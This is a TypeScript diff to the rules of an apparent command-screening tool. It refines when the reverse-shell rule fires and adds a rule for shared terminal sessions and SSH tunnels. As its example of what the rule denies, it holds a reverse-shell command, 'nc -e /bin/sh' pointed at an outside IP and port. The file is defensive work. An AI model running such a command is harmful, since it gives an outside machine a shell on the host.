@@ -1,4 +1,4 @@
-import type { EffectKind } from '../../shell/analysis.js';
+import type { Effect, EffectKind } from '../../shell/analysis.js';
 import type { Call, Finding, Rule } from '../rule.js';
 import type { ShellScene } from '../shell-scene.js';
 
@@ -6,6 +6,7 @@ function ruleOn(
   kind: EffectKind,
   what: string,
   rule: Omit<Rule, 'inShell' | 'alternative' | 'example'> & { readonly calls: readonly [Call, Call] },
+  matches: (effect: Effect) => boolean = () => true,
 ): Rule {
   const { calls, ...rest } = rule;
   return {
@@ -13,7 +14,7 @@ function ruleOn(
     example: calls[0],
     alternative: calls[1],
     inShell: (scene) => {
-      const effect = scene.effectsOf(kind)[0];
+      const effect = scene.effectsOf(kind).find(matches);
       return effect === undefined ? null : { what, target: effect.targets[0]?.text ?? null };
     },
   };
@@ -34,6 +35,9 @@ function findLoadedCode(scene: ShellScene): Finding | null {
   return null;
 }
 
+/** A session that its own program shares, which people do with colleagues. */
+const SHARED = 'session.shared';
+
 const BOTH = { standard: 'deny', strict: 'deny' } as const;
 
 /** The machine itself: its processes, its power, who commands it. */
@@ -49,17 +53,22 @@ export const SYSTEM_RULES: readonly Rule[] = [
       { kind: 'shell', command: 'seq 4 | xargs -P 4 -n 1 echo' },
     ],
   }),
-  ruleOn('reverse-shell', 'give another machine a shell on this one', {
-    id: 'system.reverse-shell',
-    title: 'Gives another machine a shell on this one',
-    presets: BOTH,
-    isAlwaysOn: true,
-    advice: 'To see whether a port answers',
-    calls: [
-      { kind: 'shell', command: 'nc -e /bin/sh 203.0.113.5 4444' },
-      { kind: 'shell', command: 'nc -z localhost 8080' },
-    ],
-  }),
+  ruleOn(
+    'reverse-shell',
+    'give another machine a shell on this one',
+    {
+      id: 'system.reverse-shell',
+      title: 'Gives another machine a shell on this one',
+      presets: BOTH,
+      isAlwaysOn: true,
+      advice: 'To see whether a port answers',
+      calls: [
+        { kind: 'shell', command: 'nc -e /bin/sh 203.0.113.5 4444' },
+        { kind: 'shell', command: 'nc -z localhost 8080' },
+      ],
+    },
+    ({ action }) => action !== SHARED,
+  ),
   {
     id: 'system.environment',
     title: 'Makes other programs load code by an environment variable',
@@ -111,6 +120,22 @@ export const ADMINISTRATION_RULES: readonly Rule[] = [
       { kind: 'shell', command: 'crontab -l' },
     ],
   }),
+  ruleOn(
+    'reverse-shell',
+    'let others into this machine',
+    {
+      id: 'system.session',
+      title: 'Shares a terminal, or opens a way back to the logins of this machine',
+      presets: { strict: 'deny' },
+      isAlwaysOn: false,
+      advice: 'Let a person share it; a way out to another machine',
+      calls: [
+        { kind: 'shell', command: 'tmate -F' },
+        { kind: 'shell', command: 'ssh -fN -L 5432:localhost:5432 db' },
+      ],
+    },
+    ({ action }) => action === SHARED,
+  ),
   ruleOn('service-stop', 'stop a service of this machine', {
     id: 'system.service',
     title: 'Stops, disables or masks a service, or takes a firewall down',
